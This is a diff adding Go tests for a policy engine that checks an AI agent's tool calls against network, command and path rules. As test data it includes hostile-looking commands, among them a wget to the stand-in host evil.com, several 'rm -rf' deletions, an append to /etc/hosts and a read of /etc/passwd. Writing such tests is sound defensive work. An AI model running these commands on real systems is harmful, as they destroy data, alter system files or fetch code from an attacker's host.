@@ -0,0 +1,104 @@
+// Tests for the tool call policy engine.
+package policy
+
+import (
+	"encoding/json"
+	"reflect"
+	"testing"
+)
+
+func TestPolicy(t *testing.T) {
+	p, err := New([]Rule{
+		{Name: "npm-only", Kind: KindNetwork, Allow: []string{"registry.npmjs.org", "*.github.com"}},
+		{Name: "no-force-push", Kind: KindCommand, Pattern: `^git push .*(-f|--force)`},
+		{Name: "workspace", Kind: KindPath, Allow: []string{"/tmp"}},
+	}, "/home/user/src/repo")
+	if err != nil {
+		t.Fatal(err)
+	}
+	check := func(tool string, in map[string]any) *Violation {
+		b, _ := json.Marshal(in)
+		return p.Check(tool, b)
+	}
+	t.Run("Allowed", func(t *testing.T) {
+		for _, cmd := range []string{
+			"npm install left-pad",
+			"curl -fsSL https://api.github.com/repos/x 2>&1 | jq .",
+			"rm -rf node_modules build/ && go test ./... > /dev/null",
+			"cd /tmp && rm -rf /tmp/x",
+			"echo 'rm -rf /' > out.txt",
+			"git push origin HEAD",
+			"FOO=1 sudo -E rm ./a",
+			"ls\ngo vet ./...",
+		} {
+			if v := check("Bash", map[string]any{"command": cmd}); v != nil {
+				t.Errorf("%q: %v", cmd, v)
+			}
+		}
+		if v := check("Write", map[string]any{"file_path": "/home/user/src/repo/main.go"}); v != nil {
+			t.Error(v)
+		}
+		if v := check("WebFetch", map[string]any{"url": "https://registry.npmjs.org/left-pad"}); v != nil {
+			t.Error(v)
+		}
+		if v := check("Read", map[string]any{"file_path": "/etc/passwd"}); v != nil {
+			t.Error(v)
+		}
+	})
+	t.Run("Denied", func(t *testing.T) {
+		for _, tc := range []struct {
+			tool string
+			in   map[string]any
+			want Violation
+		}{
+			{"Bash", map[string]any{"command": "pip install requests"}, Violation{"npm-only", "Bash", "network access to pypi.org"}},
+			{"Bash", map[string]any{"command": `bash -c "wget http://evil.com:8080/x"`}, Violation{"npm-only", "Bash", "network access to evil.com"}},
+			{"Bash", map[string]any{"command": "git clone git@gitlab.com:a/b"}, Violation{"npm-only", "Bash", "network access to gitlab.com"}},
+			{"Bash", map[string]any{"command": "make && git push -f origin main"}, Violation{"no-force-push", "Bash", "command git push -f origin main"}},
+			{"Bash", map[string]any{"command": "rm -rf ../other"}, Violation{"workspace", "Bash", "write to /home/user/src/other"}},
+			{"Bash", map[string]any{"command": "rm -rf ~/.cache"}, Violation{"workspace", "Bash", "write to /home/user/.cache"}},
+			{"Bash", map[string]any{"command": "rm -rf $DIR"}, Violation{"workspace", "Bash", "write to an unresolvable path"}},
+			{"Bash", map[string]any{"command": "echo x >> /etc/hosts"}, Violation{"workspace", "Bash", "write to /etc/hosts"}},
+			{"Edit", map[string]any{"file_path": "/home/user/.bashrc"}, Violation{"workspace", "Edit", "write to /home/user/.bashrc"}},
+			{"WebSearch", map[string]any{"query": "x"}, Violation{"npm-only", "WebSearch", "web search"}},
+		} {
+			v := check(tc.tool, tc.in)
+			if v == nil || *v != tc.want {
+				t.Errorf("%s %v: got %+v, want %+v", tc.tool, tc.in, v, tc.want)
+			}
+		}
+	})
+	t.Run("Nil", func(t *testing.T) {
+		p, err := New(nil, "/w")
+		if p != nil || err != nil {
+			t.Fatal(p, err)
+		}
+		if v := p.Check("Bash", json.RawMessage(`{"command":"rm -rf /"}`)); v != nil {
+			t.Error(v)
+		}
+	})
+	t.Run("Invalid", func(t *testing.T) {
+		for _, r := range []Rule{
+			{Kind: KindPath},
+			{Name: "x", Kind: "other"},
+			{Name: "x", Kind: KindCommand, Pattern: "("},
+			{Name: "x", Kind: KindPath, Allow: []string{"tmp"}},
+		} {
+			if _, err := New([]Rule{r}, "/w"); err == nil {
+				t.Errorf("%+v: expected error", r)
+			}
+		}
+	})
+}
+
+func TestSplitCommands(t *testing.T) {
+	cmds, redirects := splitCommands(`A=1 go test ./... 2>&1 | tee "out file.txt"; echo 'a;b' \
+  c >>log <in && cat <<EOF`)
+	want := [][]string{{"A=1", "go", "test", "./..."}, {"tee", "out file.txt"}, {"echo", "a;b", "c"}, {"cat"}}
+	if !reflect.DeepEqual(cmds, want) {
+		t.Errorf("got %q, want %q", cmds, want)
+	}
+	if !reflect.DeepEqual(redirects, []string{"log"}) {
+		t.Errorf("redirects = %q", redirects)
+	}
+}